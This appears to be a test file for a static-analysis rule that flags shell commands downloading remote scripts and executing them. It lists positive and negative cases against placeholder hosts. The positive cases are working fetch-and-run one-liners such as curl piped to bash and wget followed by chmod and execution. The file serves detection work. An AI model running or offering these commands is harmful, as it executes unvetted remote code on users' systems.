# ruleid: shell-network-into-shell
curl -s http://203.0.113.9/setup.sh | bash
# ruleid: shell-network-into-shell
sh -c "$(wget -qO- http://example.test/i.sh)"
# ruleid: shell-network-into-shell
bash <(curl -sk https://example.test/i.sh)
# ruleid: shell-network-into-shell
wget -q http://example.test/tool -O /tmp/tool; chmod +x /tmp/tool; /tmp/tool
# ok: shell-network-into-shell
curl -fsSLO http://example.test/setup.sh
# ok: shell-network-into-shell
curl -s http://localhost:8080/health | python3 -m json.tool
# ok: shell-network-into-shell
curl -s http://example.test/data.json | jq .name
# ok: shell-network-into-shell
echo 'curl http://example.test/i.sh | sh'
# a decoy: curl -s http://203.0.113.9/setup.sh | bash
